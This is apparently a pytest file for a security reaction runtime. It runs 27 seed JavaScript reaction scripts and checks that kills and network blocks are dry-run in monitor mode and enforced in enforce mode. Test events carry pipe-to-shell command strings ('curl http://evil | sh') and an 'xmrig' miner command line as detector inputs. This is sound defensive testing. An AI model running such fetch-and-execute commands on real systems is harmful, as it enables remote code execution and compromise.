"""Every JavaScript example of the seeds runs unmodified (tests/reactions_data/seed_examples)."""

from __future__ import annotations

import json
import os
import stat

import pytest
from test_reactions_support import SEEDS, js, make_event, make_runtime, recipe, start_sleeper

from jibril_rules.reactions import check_js

ALL = sorted(p.name for p in SEEDS.glob("*.js"))

# Examples that call functions they never define (or misuse variables): they end in a
# ReferenceError, which must be an error record, not a crash.
REFERENCE_ERRORS = {
    "002_documentation.js": "implementIncidentResponse is not defined",
    "002_monitoring.js": "successCount is not defined",  # after performReactionLogic throws
    "002_staging_test.js": "testErrorScenarios is not defined",
    "002_test_template.js": "processEvent is not defined",  # when test_mode is off
    "003_fragment_files.js": "evidenceData is not defined",
}
# 003's "Key capabilities" fragments are statements, not reactions: they run, then the
# record says that no process(data) was defined.
FRAGMENTS = {n for n in ALL if n.startswith("003_fragment_")} - set(REFERENCE_ERRORS)


def test_all_seed_examples_extracted() -> None:
    assert len(ALL) == 27


@pytest.fixture()
def sleepers():
    procs = [start_sleeper(), start_sleeper()]
    yield procs
    for p in procs:
        p.kill()
        p.wait()


def _run(rt, name, event):
    code = (SEEDS / name).read_text()
    return rt.run_now(recipe(name[:-3]), [js(code)], event)[0]


@pytest.mark.parametrize("name", ALL)
def test_seed_runs_unmodified_in_monitor_mode(tmp_path, sleepers, name) -> None:
    rt = make_runtime(tmp_path, netpolicy=True)
    try:
        ev = make_event(pid=sleepers[0].pid, ppid=sleepers[1].pid, cmd="curl http://x | sh")
        rec = _run(rt, name, ev)
        if name in REFERENCE_ERRORS:
            assert rec.status == "error"
            assert "ReferenceError" in rec.error and REFERENCE_ERRORS[name] in rec.error
        elif name in FRAGMENTS:
            assert rec.status == "error" and "no process(data)" in rec.error
            assert rec.calls, "the fragment's statements ran"
        else:
            assert rec.status == "ok", rec.error
        # monitor mode: nothing was killed
        assert sleepers[0].poll() is None and sleepers[1].poll() is None
        for call in rec.calls:
            if call.name in ("KillCurrent", "KillParent", "NetBlockIp", "NetBlockIpTimer"):
                assert call.result in (0, 1, -1)
                if call.result == 0:
                    assert call.dry_run
        # the runtime keeps working afterwards
        again = rt.run_now(recipe("after"), [js("function process(d){ Info('still here') }")], ev)
        assert again[0].status == "ok" and again[0].logs == ("INFO: still here",)
        line = (tmp_path / "audit.jsonl").read_text().splitlines()[0]
        assert json.loads(line)["recipe"] == name[:-3]
    finally:
        rt.close()


def _names(rec):
    return [c.name for c in rec.calls]


def test_seed_behaviours(tmp_path, sleepers) -> None:
    rt = make_runtime(tmp_path, netpolicy=True)
    try:
        ev = make_event(pid=sleepers[0].pid, ppid=sleepers[1].pid)
        rec = _run(rt, "004_crypto_miner.js", ev)
        assert _names(rec) == ["Error", "KillCurrent", "NetBlockIp", "CreateTempDir",
                               "WriteFile", "DataGet", "DataSet", "Info"]
        assert rec.logs[0] == "ERROR: Crypto miner detected: xmrig --pool x"
        assert rec.logs[-1] == "INFO: Miner #1 terminated and blocked"
        kill, block = rec.calls[1], rec.calls[2]
        assert kill.result == 0 and kill.dry_run and block.result == 0 and block.dry_run
        tmpdir = rec.calls[3].result
        assert tmpdir.startswith(str(tmp_path) + "/miner-incident-")
        assert stat.S_IMODE(os.stat(tmpdir).st_mode) == 0o700
        evidence = os.path.join(tmpdir, "evidence.json")
        assert stat.S_IMODE(os.stat(evidence).st_mode) == 0o600
        assert json.loads(open(evidence).read())["command_line"] == "xmrig --pool x"
        rec2 = _run(rt, "004_crypto_miner.js", ev)
        assert rec2.logs[-1] == "INFO: Miner #2 terminated and blocked"

        # 002 audit trail: evidence written, /var/log refused, record stored in the data store
        rec = _run(rt, "002_audit_trail.js", ev)
        results = {c.name: c for c in rec.calls}
        assert results["KillCurrent"].result == 0
        writes = [c for c in rec.calls if c.name == "WriteFile"]
        assert writes[0].result == 0 and writes[1].result == -1
        assert "outside the writable roots" in writes[1].errno
        stored = rt.services.store.get("002_audit_trail", "audit_evt-1")
        assert stored is not None
        assert json.loads(stored)["actions_taken"][0]["action"] == "process_termination"

        # 002 efficient processing escalates to NetBlockIp after 10 suspicious events
        ev2 = make_event(pid=sleepers[0].pid, cmd="curl http://evil | sh")
        for _ in range(11):
            rec = _run(rt, "002_efficient_processing.js", ev2)
        assert "NetBlockIp" in _names(rec) and rec.logs[-1].startswith("WARN: High frequency")
        assert rt.services.store.get("002_efficient_processing", "suspicious_count") == "11"

        # 002 test template with test_mode on: every self-test passes
        rt.services.store.set("002_test_template", "test_mode", "true")
        rec = _run(rt, "002_test_template.js", ev)
        assert rec.status == "ok", rec.error
        assert any("PASS" in log for log in rec.logs)
        assert not any("FAIL" in log for log in rec.logs), rec.logs

        # 002 staging test: capabilities and performance ran before the ReferenceError
        rec = _run(rt, "002_staging_test.js", ev)
        assert "INFO: Data store: PASS" in rec.logs and "INFO: File ops: PASS" in rec.logs
        assert any(log.startswith("INFO: Performance test") for log in rec.logs)

        # 003 emergency fragment: gated, recorded, machine still up
        rec = _run(rt, "003_fragment_emergency.js", ev)
        for call in rec.calls:
            assert call.result == -1 and call.dry_run and "disabled by configuration" in call.errno

        # 003 datastore fragment: keyed push and JSON-array keys
        rec = _run(rt, "003_fragment_datastore.js", ev)
        assert [c.result for c in rec.calls] == [0, 0, "5", '["incident_count"]']
    finally:
        rt.close()


def test_seeds_enforce_kills_for_real(tmp_path, sleepers) -> None:
    # 003's fragment calls KillProcess(1234): protect that pid, the test only kills its own
    rt = make_runtime(tmp_path, mode="enforce", netpolicy=False, protected_pids=(1234,))
    try:
        ev = make_event(pid=sleepers[0].pid, ppid=sleepers[1].pid)
        rec = _run(rt, "004_crypto_miner.js", ev)
        kill = rec.calls[1]
        assert kill.name == "KillCurrent" and kill.result == 0 and not kill.dry_run
        assert sleepers[0].wait(timeout=5) == -9
        block = rec.calls[2]
        assert block.result == -1 and "disabled by configuration" in block.errno
        assert rec.status == "ok"
        rec = _run(rt, "003_fragment_process.js", ev)
        by_name = {c.name: c for c in rec.calls}
        assert by_name["KillParent"].result == 0
        assert by_name["KillProcess"].result == -1
        assert "protected" in by_name["KillProcess"].errno or "no such" in by_name["KillProcess"].errno
        assert sleepers[1].wait(timeout=5) == -9
    finally:
        rt.close()


def test_check_js_on_seeds() -> None:
    warnings = {}
    for name in ALL:
        issues = check_js((SEEDS / name).read_text())
        assert not [i for i in issues if i.severity == "error" and "process" not in i.message], \
            (name, issues)
        warnings[name] = {i.message.split("'")[1] for i in issues if i.severity == "warning"}
    assert warnings["002_documentation.js"] == {"implementIncidentResponse"}
    assert warnings["002_staging_test.js"] == {"testErrorScenarios"}
    assert warnings["002_test_template.js"] == {"processEvent"}
    assert warnings["002_monitoring.js"] == {"performReactionLogic"}
    assert warnings["004_crypto_miner.js"] == set()
